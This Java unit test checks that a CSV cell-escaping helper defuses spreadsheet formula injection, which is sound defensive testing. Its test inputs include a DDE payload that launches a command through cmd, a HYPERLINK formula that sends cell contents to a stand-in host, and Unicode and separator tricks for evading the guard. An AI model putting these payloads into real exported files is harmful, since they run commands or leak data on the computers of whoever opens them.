package dev.penstock.cli.answers;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a person types is no formula for whoever opens the file. */
class CsvCellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+49 151",
                "-2",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "\nx",
                "  =1",
                "\"=1",
                "' =1",
                "\u00a0=1",
                "\u200b=1",
                "\ufeff=1",
                "\u0000=1",
                "\u201c=1",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0d1",
                "\uff20x",
                "=HYPERLINK(\"http://x.example/?\"&A1)",
                "-2+3+cmd|' /C calc'!A0"
            })
    void beginsWithAnApostropheWhereItWouldBeAFormula(String typed) {
        assertThat(CsvCell.guarded(typed))
                .startsWith("'")
                .contains(typed.strip().substring(1));
        assertThat(CsvCell.of(typed)).startsWith("\"'").endsWith("\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a;=1",
                "a,=1",
                "a|=1",
                "a\t=1",
                "a\n=1",
                "a\r\n=1",
                "a; =1",
                "a;\"=1",
                "a\",\"=1",
                "[\"a\",\"=1\"]"
            })
    void isNoFormulaForWhoeverSeesAnotherSeparator(String typed) {
        assertThat(CsvCell.guarded(typed)).contains("'=1").doesNotStartWith("'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Ada",
                "2026-11-27",
                "a-b, c+d = e@f",
                "ada@example.com",
                "(-1)",
                "{\"a\":-1}",
                "https://example.com/?a=b&c=d",
                "line\nline"
            })
    void leavesEverythingElseAsItIs(String typed) {
        assertThat(CsvCell.guarded(typed)).isEqualTo(typed);
    }

    @Test
    void doublesQuotationMarks() {
        assertThat(CsvCell.of("a \"b\", c")).isEqualTo("\"a \"\"b\"\", c\"");
    }
}
